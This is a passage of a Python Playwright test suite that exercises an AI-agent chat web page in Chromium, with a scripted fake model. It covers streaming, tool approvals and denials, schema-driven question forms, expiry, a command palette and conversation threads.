"""The chat's page in a real Chromium, against the live generated project."""

import gzip
import json
import os
import re
import select
import shutil
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from pathlib import Path

import pytest
from servers import LiveProject, serve

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
Browser, Page, Route, expect = sync_api.Browser, sync_api.Page, sync_api.Route, sync_api.expect

pytestmark = pytest.mark.slow
SECONDS = 15  # to wait for anything: a busy machine is no failure
expect.set_options(timeout=SECONDS * 1000)

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = ["--no-sandbox", "--disable-background-networking", "--disable-component-update", "--no-first-run"]
# All that the page loads for the element, compressed one by one as a server would. Lower it when you can.
MAX_GZIPPED_BYTES = 66_000

# Says what it is told, word by word; "slow" waits between the words, "fail" fails on the first try.
MODEL = """
import asyncio
from typing import Literal

from pydantic import BaseModel, Field
from pydantic_ai.models.function import DeltaToolCall, FunctionModel

from agui import Question, tool
from assistant.tools import registry

failed = set()


class Trip(BaseModel):
    day: Literal["Monday", "Tuesday"]
    people: int = 2
    code: str | None = Field(None, pattern="^X")


@tool(registry)
def plan_trip() -> str:
    "Plan a trip."
    raise Question("When do you go?", answer=Trip)


async def answer(messages, info):
    prompt = next(p.content for m in reversed(messages) for p in m.parts if p.part_kind == "user-prompt")
    called = any(p.part_kind == "tool-return" for p in messages[-1].parts)
    if "both" in prompt and not called:
        yield {0: DeltaToolCall("add_task", '{"title": "one"}', tool_call_id=f"a{len(messages)}")}
        yield {1: DeltaToolCall("delete_finished_tasks", "{}", tool_call_id=f"b{len(messages)}")}
        return
    if "trip" in prompt and not called:
        yield {0: DeltaToolCall("plan_trip", "{}", tool_call_id=f"c{len(messages)}")}
        return
    if "twice" in prompt and not called:
        for index in range(2):
            yield {index: DeltaToolCall("delete_finished_tasks", "{}", tool_call_id=f"d{index}-{len(messages)}")}
        return
    for number in range(40 if "slow" in prompt else 4):
        yield f"word{number} "
        await asyncio.sleep(0.05 if "slow" in prompt else 0)
        if "fail" in prompt and number == 2 and prompt not in failed:
            failed.add(prompt)
            raise RuntimeError("secret detail")
    yield "end."


model = FunctionModel(stream_function=answer)
"""
SLOW_ANSWER = " ".join(f"word{number}" for number in range(40)) + " end."


class Proxy:
    """Passes bytes on to the server, until its connections are cut."""

    def __init__(self, port: int) -> None:
        self.target = port
        self.open: list[socket.socket] = []
        self.requests: list[bytes] = []
        self.listener = socket.create_server(("127.0.0.1", 0))
        threading.Thread(target=self._accept, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}"

    def cut(self) -> None:
        """Drop every connection: what a change of network does."""
        for connection in self.open:
            with suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        self.open.clear()

    def close(self) -> None:
        self.listener.close()
        self.cut()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self.listener.accept()
                server = socket.create_connection(("127.0.0.1", self.target))
                self.open += [client, server]
                threading.Thread(target=self._pass_on, args=(client, server), daemon=True).start()

    def _pass_on(self, client: socket.socket, server: socket.socket) -> None:
        with suppress(OSError, ValueError), client, server:
            while True:
                for readable in select.select([client, server], [], [])[0]:
                    data = readable.recv(65536)
                    if not data:
                        return
                    if readable is client:
                        self.requests.append(data)
                    (server if readable is client else client).sendall(data)


# --- Fixtures


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM:
        pytest.skip("chromium is not installed")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def scripted_project(live_project: LiveProject) -> Iterator[LiveProject]:
    """The same project, served by a second process with the model above."""
    (live_project.path / "scripted.py").write_text(MODEL)
    with serve(live_project.path, AGENT_MODEL="python:scripted.model") as live:
        yield live


@pytest.fixture
def new_page(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Callable[..., Page]]:
    """Open pages; errors of any script, and refusals of the Content-Security-Policy, fail the test."""
    errors: list[str] = []
    pages: list[Page] = []

    def open_page(url: str = "", **options) -> Page:
        context = browser.new_context(**({"viewport": {"width": 1200, "height": 800}} | options))
        context.set_default_timeout(SECONDS * 1000)
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("console", lambda m: errors.append(m.text) if "Content Security Policy" in m.text else None)
        pages.append(page)
        if url:
            page.goto(url)
        return page

    yield open_page
    if directory := os.environ.get("SCREENSHOTS"):
        for number, page in enumerate(pages):
            page.screenshot(path=Path(directory) / f"{request.node.name}-{number}.png")
    for page in pages:
        page.context.close()
    assert errors == []


@pytest.fixture(scope="module")
def signed_in(browser: Browser, live_project: LiveProject) -> dict:
    """The cookies of somebody who has signed in, good for both servers: they share a database."""
    with closing(browser.new_context()) as context:
        page = context.new_page()
        page.goto(live_project.url)
        sign_in(page, live_project)
        return context.storage_state()


@pytest.fixture
def chat(new_page: Callable[..., Page], live_project: LiveProject, signed_in: dict) -> Page:
    """A signed-in page on the demo model."""
    return new_page(live_project.url, storage_state=signed_in)


@pytest.fixture
def scripted(new_page: Callable[..., Page], scripted_project: LiveProject, signed_in: dict) -> Page:
    """A signed-in page on the model above."""
    return new_page(scripted_project.url, storage_state=signed_in)


def sign_in(page: Page, live: LiveProject) -> Page:
    page.get_by_label("Username").fill(live.username)
    page.get_by_label("Password").fill(live.password)
    page.get_by_role("button", name="Sign in").click()
    expect(message_box(page)).to_be_visible()
    return page


def message_box(page: Page):
    return page.get_by_label("Your message")


def say(page: Page, text: str) -> None:
    message_box(page).fill(text)
    message_box(page).press("Enter")
    drawn(page)


def drawn(page: Page) -> None:
    """The page draws once a frame: what follows is to see what it drew."""
    page.evaluate("() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))")


def finished(page: Page) -> None:
    """Wait until the run has ended: the button sends again."""
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_visible()


def answers(page: Page) -> list[str]:
    return page.locator(".assistant .prose:visible").all_inner_texts()


def thread_id(page: Page) -> str:
    page.wait_for_url(re.compile(r"\?thread="))
    return page.url.partition("?thread=")[2]


def origin(page: Page) -> str:
    return page.evaluate("location.origin")


def stored(page: Page) -> dict:
    """The conversation as the server has it."""
    return page.request.get(f"{origin(page)}/agent/threads/{thread_id(page)}/").json()


def stored_texts(page: Page, role: str) -> list[str]:
    return [m["content"] for m in stored(page)["messages"] if m["role"] == role and m.get("content")]


# --- The first visit


def test_signed_out_visitor_meets_the_login_page(new_page, live_project):
    page = new_page(live_project.url)
    assert "/login/" in page.url
    page.get_by_label("Username").fill("nobody")
    page.get_by_label("Password").fill("wrong")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    sign_in(page, live_project)


def test_first_visit_asks_for_no_history_and_for_no_other_host(new_page, live_project):
    page = new_page(live_project.url)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    sign_in(page, live_project)
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    expect(page.locator(".chip").first).to_be_visible()
    assert not [url for url in requests if "/threads/" in url]
    assert not [url for url in requests if not url.startswith((live_project.url, "data:"))]


def test_signing_out_leads_back_to_the_login_page(new_page, live_project):
    page = sign_in(new_page(live_project.url), live_project)
    page.get_by_role("button", name="Account").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_label("Password")).to_be_visible()


# --- A conversation


def test_text_streams_in(scripted):
    say(scripted, "slow")
    prose = scripted.locator(".assistant .prose")
    expect(prose).to_contain_text("word3")
    assert "end." not in prose.inner_text()
    expect(prose).to_contain_text("end.")
    assert answers(scripted) == [SLOW_ANSWER]


def test_markdown_becomes_elements(chat):
    say(chat, 'add a task title="Write a report" category=work')
    finished(chat)
    say(chat, "list tasks")
    finished(chat)
    expect(chat.locator(".prose code").first).to_be_visible()
    expect(chat.locator(".prose table").last).to_contain_text("Write a report")


def test_tool_card_tells_what_went_in_and_out(chat):
    say(chat, 'add a task title="Buy milk" category=home')
    card = chat.locator(".tool", has_text="Add task")
    expect(card).to_have_attribute("data-status", "success")
    card.locator("summary").click()
    expect(card.get_by_text("Buy milk", exact=True)).to_be_visible()
    expect(card.locator("pre")).to_contain_text('"category": "home"')


def test_reasoning_is_folded(chat):
    say(chat, "Think about it: list tasks")
    finished(chat)
    reasoning = chat.locator(".reasoning")
    expect(reasoning.locator(".prose")).to_be_hidden()
    reasoning.locator("summary").click()
    expect(reasoning.locator(".prose")).not_to_be_empty()


def test_enter_sends_and_shift_enter_makes_a_line(chat):
    message_box(chat).press_sequentially("first line")
    message_box(chat).press("Shift+Enter")
    message_box(chat).press_sequentially("second line")
    expect(chat.locator(".bubble")).to_have_count(0)
    message_box(chat).press("Enter")
    expect(chat.locator(".bubble")).to_have_text("first line\nsecond line", use_inner_text=True)
    expect(message_box(chat)).to_have_value("")


def test_nothing_is_sent_while_a_run_is_on(scripted):
    say(scripted, "slow")
    expect(scripted.locator(".assistant .prose")).to_contain_text("word1")
    say(scripted, "not yet")
    expect(scripted.locator(".bubble")).to_have_count(1)
    expect(message_box(scripted)).to_have_value("not yet")
    finished(scripted)
    assert stored_texts(scripted, "user") == ["slow"]


@pytest.mark.parametrize("how", ["button", "Escape"])
def test_stop_ends_the_run_and_keeps_the_text(scripted, how):
    say(scripted, "slow")
    expect(scripted.locator(".assistant .prose")).to_contain_text("word2")
    if how == "button":
        scripted.get_by_role("button", name="Stop").click()
    else:
        message_box(scripted).press("Escape")
    expect(scripted.get_by_text("Stopped.")).to_be_visible()
    [text] = answers(scripted)
    assert text.startswith("word0 word1 word2")
    assert "end." not in text
    assert stored(scripted)["running"] is False
    say(scripted, "again")
    finished(scripted)
    assert answers(scripted)[-1] == "word0 word1 word2 word3 end."


# --- Approvals


def test_approval_asks_with_the_tools_own_words_and_runs_once(chat):
    say(chat, "delete finished tasks")
    card = chat.locator(".tool[data-status=waiting]")
    expect(card.locator(".question")).to_contain_text("They can't be restored.")
    expect(chat.get_by_role("button", name="Send", exact=True)).to_be_disabled()
    card.get_by_role("button", name="Approve").click()
    expect(chat.locator(".tool")).to_have_attribute("data-status", "success")
    finished(chat)
    assert len([m for m in stored(chat)["messages"] if m["role"] == "tool"]) == 1
    expect(message_box(chat)).to_be_focused()


def test_denied_tool_does_not_run_and_the_agent_goes_on(chat):
    say(chat, "delete finished tasks")
    chat.get_by_role("button", name="Deny").click()
    expect(chat.locator(".tool")).to_have_attribute("data-status", "denied")
    finished(chat)
    chat.reload()
    expect(chat.locator(".tool")).to_have_attribute("data-status", "denied")


def test_open_question_survives_a_reload(chat):
    say(chat, "delete finished tasks")
    expect(chat.get_by_role("button", name="Approve")).to_be_visible()
    chat.reload()
    chat.get_by_role("button", name="Approve").click()
    expect(chat.locator(".tool")).to_have_attribute("data-status", "success")


def test_several_questions_are_answered_in_one_request(scripted):
    say(scripted, "delete twice")
    expect(scripted.get_by_role("button", name="Approve")).to_have_count(2)
    resumes: list[list] = []
    scripted.on("request", lambda r: resumes.append(r.post_data_json["resume"]) if r.url.endswith("/agent/") else None)
    scripted.get_by_role("button", name="Deny").first.click()
    expect(scripted.get_by_text("1 more to decide")).to_be_visible()
    assert resumes == []
    scripted.get_by_role("button", name="Approve").last.click()
    finished(scripted)
    assert [[entry["payload"]["approved"] for entry in resume] for resume in resumes] == [[False, True]]
    statuses = scripted.locator(".tool").evaluate_all("cards => cards.map(card => card.dataset.status)")
    assert statuses == ["denied", "success"]


def test_question_beside_a_finished_call(scripted):
    say(scripted, "both")
    expect(scripted.locator(".tool[data-status=waiting]")).to_have_count(1)
    scripted.get_by_role("button", name="Approve").click()
    finished(scripted)
    statuses = scripted.locator(".tool").evaluate_all("cards => cards.map(card => card.dataset.status)")
    assert statuses == ["success", "success"]


# --- Questions

STARTED = {"type": "RUN_STARTED", "threadId": "t", "runId": "r"}
FINISHED = {"type": "RUN_FINISHED", "threadId": "t", "runId": "r"}
# As pydantic describes a model with these fields.
BOOKING = {
    "title": "Booking",
    "type": "object",
    "required": ["guest", "arrival", "smoker"],
    "properties": {
        "guest": {"type": "string", "title": "Guest", "description": "As in the passport."},
        "people": {"type": "integer", "title": "People", "default": 2, "minimum": 1, "maximum": 8},
        "arrival": {"type": "string", "format": "date", "title": "Arrival"},
        "late": {"anyOf": [{"type": "string", "format": "date-time"}, {"type": "null"}], "default": None},
        "room": {"$ref": "#/$defs/Room", "default": "large"},
        "extras": {"type": "array", "items": {"enum": ["breakfast", "parking"]}, "default": ["breakfast"]},
        "smoker": {"type": "boolean", "title": "Smoker"},
        "newsletter": {"type": "boolean", "default": True},
        "billing": {"anyOf": [{"$ref": "#/$defs/Address"}, {"type": "null"}], "default": None},
        "notes": {"type": "object", "additionalProperties": {"type": "integer"}, "default": {}},
    },
    "$defs": {
        "Room": {"title": "Room", "type": "string", "enum": ["small", "large"]},
        "Address": {"type": "object", "properties": {"street": {"type": "string"}}, "required": ["street"]},
    },
}


def tool_call(call_id: str, name: str, arguments: dict) -> list[dict]:
    return [
        {"type": "TOOL_CALL_START", "toolCallId": call_id, "toolCallName": name, "parentMessageId": "m"},
        {"type": "TOOL_CALL_ARGS", "toolCallId": call_id, "delta": json.dumps(arguments)},
        {"type": "TOOL_CALL_END", "toolCallId": call_id},
    ]


def question(interrupt_id: str, schema: dict | None = None, **fields) -> dict:
    schemas = {} if schema is None else {"responseSchema": schema}
    return {"id": interrupt_id, "reason": "input_required", "message": f"Question {interrupt_id}?"} | schemas | fields


def approval(interrupt_id: str, call_id: str, **fields) -> dict:
    return {"id": interrupt_id, "reason": "tool_call", "toolCallId": call_id, "message": "Really?"} | fields


def asking(*interrupts: dict, calls: tuple[str, ...] = ()) -> list[dict]:
    """A run that ends with open interrupts."""
    events = [event for call_id in calls for event in tool_call(call_id, "book_room", {"hotel": "Sacher"})]
    return [STARTED, *events, FINISHED | {"outcome": {"type": "interrupt", "interrupts": interrupts}}]


def stub_runs(page: Page, *runs: list[dict]) -> list[dict]:
    """Answer each run with the next of these streams; what was sent."""
    sent: list[dict] = []

    def answer(route: Route) -> None:
        sent.append(route.request.post_data_json)
        body = "".join(f"id: r:{n}\ndata: {json.dumps(event)}\n\n" for n, event in enumerate(runs[len(sent) - 1]))
        route.fulfill(content_type="text/event-stream", body=body)

    page.route("**/agent/", answer)
    return sent


def stub_thread(page: Page, messages: list[dict], pending: list[dict]) -> None:
    thread = {"messages": messages, "pending": pending, "state": {}, "running": False, "title": ""}
    page.route(re.compile(r"/agent/threads/[^/]+/$"), lambda route: route.fulfill(json=thread))


def ask(page: Page, *interrupts: dict, calls: tuple[str, ...] = ()) -> list[dict]:
    """Say something that makes the agent ask, and then be content with the answers; what was sent."""
    sent = stub_runs(page, asking(*interrupts, calls=calls), [STARTED, FINISHED])
    say(page, "hello")
    expect(page.get_by_role("group", name=interrupts[0]["message"])).to_be_visible()
    return sent


def send_answer(page: Page) -> None:
    page.get_by_role("button", name="Send answer").click()


def test_question_becomes_a_form_in_the_card_of_its_tool(chat):
    sent = ask(chat, question("q", BOOKING, toolCallId="c"), calls=("c",))
    card = chat.locator(".tool")
    expect(card).to_contain_text("Needs your answer")
    expect(card.get_by_label("Guest")).to_have_accessible_description("As in the passport.")
    expect(card.get_by_label("People")).to_have_value("2")
    card.get_by_label("Guest").fill("Ada")
    card.get_by_label("People").fill("3")
    card.get_by_label("Arrival").fill("2026-05-01")
    card.get_by_label("Late").fill("2026-05-01T22:30")
    card.get_by_label("Room").select_option("small")
    card.get_by_role("group", name="Extras").get_by_label("parking").check()
    card.get_by_role("group", name="Smoker").get_by_label("No").check()
    card.get_by_label("Newsletter").uncheck()
    card.get_by_label("Billing").check()
    card.get_by_label("Street").fill("Main Street 1")
    card.get_by_label("Notes").fill('{"dogs": 1}')
    send_answer(chat)
    finished(chat)
    late = chat.evaluate("new Date('2026-05-01T22:30').toISOString()")
    answer = {
        "guest": "Ada",
        "people": 3,
        "arrival": "2026-05-01",
        "late": late,
        "room": "small",
        "extras": ["breakfast", "parking"],
        "smoker": False,
        "newsletter": False,
        "billing": {"street": "Main Street 1"},
        "notes": {"dogs": 1},
    }
    assert sent[1]["resume"] == [{"interruptId": "q", "status": "resolved", "payload": answer}]
    assert sent[1]["messages"] == []
    expect(message_box(chat)).to_be_focused()


def test_question_of_a_tool_gets_its_answer(scripted):
    say(scripted, "plan a trip")
    form = scripted.get_by_role("group", name="When do you go?")
    expect(form).to_be_visible()
    scripted.reload()
    form.get_by_label("Day").select_option("Tuesday")
    form.get_by_label("Code").fill("what only the server refuses")
    send_answer(scripted)
    expect(scripted.get_by_role("alert")).to_contain_text("does not have the form")
    form.get_by_label("Code").fill("")
    send_answer(scripted)
    finished(scripted)
    expect(scripted.locator(".tool")).to_have_attribute("data-status", "success")
    expect(scripted.get_by_role("alert")).to_be_hidden()
    [result] = [json.loads(m["content"]) for m in stored(scripted)["messages"] if m["role"] == "tool"]
    assert result == {"day": "Tuesday", "people": 2}


def test_only_what_is_required_has_to_be_filled_in(chat):
    sent = ask(chat, question("q", BOOKING))
    chat.get_by_label("Arrival").fill("2026-05-01")
    chat.get_by_role("group", name="Smoker").get_by_label("Yes").check()
    send_answer(chat)
    expect(chat.get_by_label("Guest")).to_be_focused()
    assert len(sent) == 1
    chat.get_by_label("Guest").fill("Ada")
    chat.get_by_label("Notes").fill("{not JSON")
    send_answer(chat)
    expect(chat.get_by_label("Notes")).to_be_focused()
    assert len(sent) == 1
    chat.get_by_label("Notes").fill("")
    send_answer(chat)
    finished(chat)
    assert sent[1]["resume"][0]["payload"] == {
        "guest": "Ada",
        "people": 2,
        "arrival": "2026-05-01",
        "room": "large",
        "extras": ["breakfast"],
        "smoker": True,
        "newsletter": True,
    }


@pytest.mark.parametrize(
    ("schema", "fill", "payload"),
    [
        (None, lambda page: page.get_by_label("Your answer").fill("words"), "words"),
        ({"type": "string"}, lambda page: page.get_by_label("Your answer").fill("words"), "words"),
        ({"type": "integer", "title": "Years"}, lambda page: page.get_by_label("Years").fill("7"), 7),
        ({"enum": ["a", 1]}, lambda page: page.get_by_label("Your answer").select_option("1"), 1),
        ({"type": "boolean"}, lambda page: page.get_by_label("Yes").check(), True),
        ({"anyOf": [{"type": "string"}, {"type": "null"}]}, lambda page: None, None),
    ],
    ids=["no schema", "string", "integer", "enum", "boolean", "optional"],
)
def test_question_for_one_value(chat, schema, fill, payload):
    sent = ask(chat, question("q", schema))
    fill(chat)
    send_answer(chat)
    finished(chat)
    assert sent[1]["resume"] == [{"interruptId": "q", "status": "resolved", "payload": payload}]


def test_question_is_skipped_without_filling_in_anything(chat):
    sent = ask(chat, question("q", BOOKING))
    chat.get_by_role("button", name="Skip").click()
    finished(chat)
    assert sent[1]["resume"] == [{"interruptId": "q", "status": "cancelled"}]


def test_question_is_reached_and_answered_with_the_keyboard(chat):
    sent = ask(chat, question("q", {"type": "string"}))
    expect(chat.get_by_role("group", name="Question q?")).to_be_focused()
    chat.keyboard.press("Enter")
    chat.keyboard.press("Tab")
    chat.keyboard.type("words")
    assert len(sent) == 1
    chat.keyboard.press("Enter")
    finished(chat)
    assert sent[1]["resume"][0]["payload"] == "words"


def test_approvals_and_questions_are_answered_together(chat):
    sent = ask(chat, approval("a", "c"), question("q", toolCallId="d"), question("alone"), calls=("c", "d"))
    first, last = chat.get_by_role("group", name="Question q?"), chat.get_by_role("group", name="Question alone?")
    first.get_by_label("Your answer").fill("old")
    first.get_by_role("button", name="Send answer").click()
    expect(chat.get_by_text("2 more to decide")).to_be_visible()
    expect(chat.get_by_role("group", name="Really?")).to_be_focused()
    # An answer that is changed is none until it is sent again.
    first.get_by_label("Your answer").fill("new")
    expect(chat.get_by_text("3 more to decide")).to_be_visible()
    expect(first.get_by_label("Your answer")).to_be_focused()
    last.get_by_role("button", name="Skip").click()
    chat.get_by_role("button", name="Approve").click()
    expect(first).to_be_focused()
    assert len(sent) == 1
    first.get_by_role("button", name="Send answer").click()
    finished(chat)
    assert sent[1]["resume"] == [
        {"interruptId": "a", "status": "resolved", "payload": {"approved": True}},
        {"interruptId": "q", "status": "resolved", "payload": "new"},
        {"interruptId": "alone", "status": "cancelled"},
    ]


def test_question_about_an_unknown_call_stands_alone_and_keeps_what_is_typed(chat):
    ask(chat, question("q", toolCallId="unknown"), question("other"))
    box = chat.get_by_role("group", name="Question q?").get_by_label("Your answer")
    box.press_sequentially("half a ")
    chat.locator("agui-chat").evaluate("e => e.session.dispatchEvent(new CustomEvent('change'))")
    drawn(chat)
    expect(box).to_be_focused()
    chat.get_by_role("group", name="Question other?").get_by_role("button", name="Skip").click()
    expect(chat.get_by_text("1 more to decide")).to_be_visible()
    expect(box).to_have_value("half a ")
    assert chat.locator(".tool").count() == 2


PAST = "2020-01-01T00:00:00Z"


@pytest.mark.parametrize("late", [approval("a", "c", expiresAt=PAST), question("q", BOOKING, expiresAt=PAST)])
def test_what_has_expired_can_only_be_dismissed(chat, late):
    sent = ask(chat, late, calls=("c",))
    group = chat.get_by_role("group", name=late["message"])
    expect(group).to_contain_text("expired")
    expect(group.get_by_role("button")).to_have_text(["Dismiss"])
    group.get_by_role("button").click()
    finished(chat)
    assert sent[1]["resume"] == [{"interruptId": late["id"], "status": "cancelled"}]


def test_question_expires_while_it_is_shown(new_page, live_project, signed_in):
    page = new_page(storage_state=signed_in)
    page.clock.install()
    page.goto(live_project.url)
    soon = page.evaluate("new Date(Date.now() + 3600_000).toISOString()")
    sent = ask(page, approval("a", "c", expiresAt=soon), question("q"), calls=("c",))
    page.get_by_role("button", name="Approve").click()
    expect(page.get_by_text("1 more to decide")).to_be_visible()
    page.clock.fast_forward("01:00:01")
    expect(page.get_by_text("2 more to decide")).to_be_visible()
    expect(page.get_by_role("group", name="Really?").get_by_role("button")).to_have_text(["Dismiss"])
    page.get_by_role("button", name="Skip").click()
    page.get_by_role("button", name="Dismiss").click()
    finished(page)
    assert [entry["status"] for entry in sent[1]["resume"]] == ["cancelled", "cancelled"]


@pytest.mark.parametrize("code", ["interrupt_unknown", "interrupt_expired"])
def test_refused_answer_brings_the_questions_that_are_really_open(chat, code):
    stub_runs(chat, asking(question("q")), [STARTED, {"type": "RUN_ERROR", "message": "Not this one.", "code": code}])
    stub_thread(chat, [{"id": "u", "role": "user", "content": "as stored"}], [question("really open")])
    say(chat, "hello")
    chat.get_by_role("button", name="Skip").click()
    expect(chat.get_by_role("group", name="Question really open?")).to_be_visible()
    expect(chat.get_by_role("group", name="Question q?")).to_have_count(0)
    expect(chat.get_by_role("alert")).to_contain_text("Not this one.")
    expect(chat.get_by_role("button", name="Try again")).to_have_count(0)
    expect(chat.locator(".bubble")).to_have_text("as stored")


@pytest.mark.parametrize("calls", [(), ("c",)], ids=["alone", "in a card"])
def test_refused_form_keeps_what_was_typed(chat, calls):
    open_question = question("q", toolCallId="c")
    refusal = [STARTED, {"type": "RUN_ERROR", "message": "Not in this form.", "code": "invalid_resume"}]
    sent = stub_runs(chat, asking(open_question, calls=calls), refusal, [STARTED, FINISHED])
    call = {"id": "c", "type": "function", "function": {"name": "book_room", "arguments": "{}"}}
    stub_thread(chat, [{"id": "m", "role": "assistant", "toolCalls": [call]}] if calls else [], [open_question])
    say(chat, "hello")
    chat.get_by_label("Your answer").fill("many words")
    send_answer(chat)
    expect(chat.get_by_role("alert")).to_contain_text("Not in this form.")
    expect(chat.get_by_role("group", name="Question q?")).to_be_focused()
    expect(chat.get_by_label("Your answer")).to_have_value("many words")
    send_answer(chat)
    finished(chat)
    expect(chat.get_by_role("alert")).to_be_hidden()
    assert len(sent) == 3


def test_message_to_a_conversation_that_waits_is_given_back(chat):
    stub_runs(chat, [STARTED, {"type": "RUN_ERROR", "message": "Answer first.", "code": "interrupt_pending"}])
    stub_thread(chat, [], [question("q")])
    say(chat, "my words")
    expect(chat.get_by_role("group", name="Question q?")).to_be_focused()
    expect(message_box(chat)).to_have_value("my words")
    expect(chat.locator(".bubble")).to_have_count(0)
    expect(chat.get_by_role("alert")).to_contain_text("Answer first.")


def test_question_that_can_not_be_loaded_is_told_and_retried(chat):
    chat.route("**/question*.js", lambda route: route.abort())
    say(chat, "delete finished tasks")
    expect(chat.get_by_role("alert")).to_contain_text("connection to the server was lost")
    chat.unroute("**/question*.js")
    chat.get_by_role("button", name="Try again").click()
    chat.get_by_role("button", name="Approve").click()
    expect(chat.locator(".tool")).to_have_attribute("data-status", "success")


def test_long_form_begins_at_its_beginning_on_a_phone(new_page, live_project, signed_in):
    page = new_page(live_project.url, viewport={"width": 380, "height": 780}, storage_state=signed_in)
    ask(page, question("q", BOOKING))
    expect(page.get_by_text("Question q?")).to_be_in_viewport()
    expect(page.get_by_label("Guest")).to_be_in_viewport()
    page.get_by_label("Billing").check()
    assert page.locator(".log").evaluate("e => e.scrollWidth - e.clientWidth") <= 0


# --- Progress


def test_active_step_is_shown_while_the_run_is_on(chat):
    chat.locator("agui-chat").evaluate("""chat => {
        const headers = { "Content-Type": "text/event-stream" };
        chat.request = async () => new Response(new ReadableStream({ start: (stream) => {
            window.push = (event) => stream.enqueue(new TextEncoder().encode(`data: ${JSON.stringify(event)}\n\n`));
        } }), { headers });
    }""")
    say(chat, "hello")

    def push(*events: dict) -> None:
        chat.evaluate("events => events.forEach(push)", list(events))

    push(STARTED, {"type": "STEP_STARTED", "stepName": "Read the archive"})
    expect(chat.locator(".working")).to_have_text("Read the archive")
    expect(chat.get_by_role("status")).to_have_text("Read the archive")
    text = {"messageId": "m", "role": "assistant", "delta": "Some text."}
    push({"type": "STEP_STARTED", "stepName": "Search"}, {"type": "TEXT_MESSAGE_CHUNK"} | text)
    expect(chat.locator(".working")).to_have_text("Search")
    expect(chat.locator(".working")).to_be_visible()
    push({"type": "STEP_FINISHED", "stepName": "Search"})
    expect(chat.locator(".working")).to_have_text("Read the archive")
    push({"type": "STEP_FINISHED", "stepName": "Read the archive"})
    expect(chat.locator(".working")).to_be_hidden()
    push(FINISHED)
    finished(chat)


def test_unknown_activity_is_folded_json_and_events_of_others_show_nothing(chat):
    activity = {"messageId": "p", "activityType": "made-up"}
    stub_runs(
        chat,
        [
            STARTED,
            {"type": "ACTIVITY_SNAPSHOT", "content": {"done": 1}} | activity,
            {"type": "ACTIVITY_DELTA", "patch": [{"op": "replace", "path": "/done", "value": 2}]} | activity,
            {"type": "ACTIVITY_DELTA", "patch": [{"op": "replace", "path": "/no/where", "value": 2}]} | activity,
            {"type": "ACTIVITY_SNAPSHOT", "messageId": "q", "content": None},
            {"type": "CUSTOM", "name": "anything", "value": None},
            {"type": "STATE_DELTA", "delta": [{"op": "replace", "path": "/no/where", "value": 2}]},
            {"type": "NEW_IN_2.0"},
            {"type": "TEXT_MESSAGE_CHUNK", "messageId": "m", "delta": "Still here."},
            FINISHED,
        ],
    )
    say(chat, "hello")
    expect(chat.locator(".assistant .prose")).to_have_text("Still here.")
    activity_view = chat.locator(".activity").first
    expect(activity_view.locator("pre")).to_be_hidden()
    activity_view.locator("summary").click()
    expect(activity_view.locator("pre")).to_have_text('{\n  "done": 2\n}', use_inner_text=True)


# --- Skills


def test_chip_sends_a_complete_prompt(chat):
    chat.get_by_role("button", name="Plan my day").click()
    expect(chat.locator(".bubble")).to_contain_text("open tasks")


def test_palette_is_used_with_the_keyboard(chat):
    message_box(chat).press_sequentially("/")
    expect(chat.get_by_role("option")).not_to_have_count(0)
    message_box(chat).press_sequentially("add")
    expect(chat.get_by_role("option", selected=True)).to_contain_text("/add_tasks")
    message_box(chat).press("Enter")
    expect(chat.get_by_role("listbox")).to_be_hidden()
    assert (
        chat.evaluate("""() => {
        const input = document.querySelector("agui-chat").shadowRoot.querySelector("textarea");
        return input.value.slice(input.selectionStart, input.selectionEnd);
    }""")
        == "{topic}"
    )
    expect(chat.locator(".bubble")).to_have_count(0)


def test_palette_opens_although_the_skills_arrive_late(new_page, live_project):
    page = new_page()
    held: list[Route] = []
    page.route("**/agent/skills/", lambda route: held.append(route))
    page.goto(live_project.url)
    with page.expect_request("**/agent/skills/"):
        sign_in(page, live_project)
    message_box(page).press_sequentially("/")
    expect(page.get_by_role("listbox")).to_be_hidden()
    held[0].continue_()
    expect(page.get_by_role("listbox")).to_be_visible()


def test_escape_closes_the_palette(chat):
    message_box(chat).press_sequentially("/")
    expect(chat.get_by_role("listbox")).to_be_visible()
    message_box(chat).press("Escape")
    expect(chat.get_by_role("listbox")).to_be_hidden()
    expect(message_box(chat)).to_have_value("/")


# --- Threads


def test_threads_are_listed_opened_renamed_and_deleted(chat):
    say(chat, "Zebra question")
    finished(chat)
    first = thread_id(chat)
    chat.get_by_role("button", name="New chat").click()
    expect(chat.locator(".bubble")).to_have_count(0)
    say(chat, "Lion question")
    finished(chat)
    assert thread_id(chat) != first

    drawer = chat.get_by_role("dialog", name="Conversations")
    chat.get_by_role("button", name="Conversations").click()
    row = drawer.get_by_role("listitem").filter(has_text="Zebra question")
    row.get_by_role("button", name="Rename").click()
    drawer.get_by_label("New title").fill("Stripes")
    drawer.get_by_label("New title").press("Enter")
    row = drawer.get_by_role("listitem").filter(has_text="Stripes")
    row.locator(".thread").click()
    expect(drawer).to_be_hidden()
    expect(chat.locator(".bubble")).to_have_text("Zebra question")
    assert thread_id(chat) == first

    chat.reload()
    expect(chat.locator(".bubble")).to_have_text("Zebra question")
    chat.get_by_role("button", name="Conversations").click()
    row.get_by_role("button", name="Delete").click()
    drawer.get_by_role("button", name="Delete", exact=True).click()
    expect(row).to_have_count(0)
    expect(chat.locator(".bubble")).to_have_count(0)
    assert chat.request.get(f"{origin(chat)}/agent/threads/{first}/").status == 404


def test_back_goes_to_the_thread_before(chat):
    say(chat, "Zebra question")
    finished(chat)
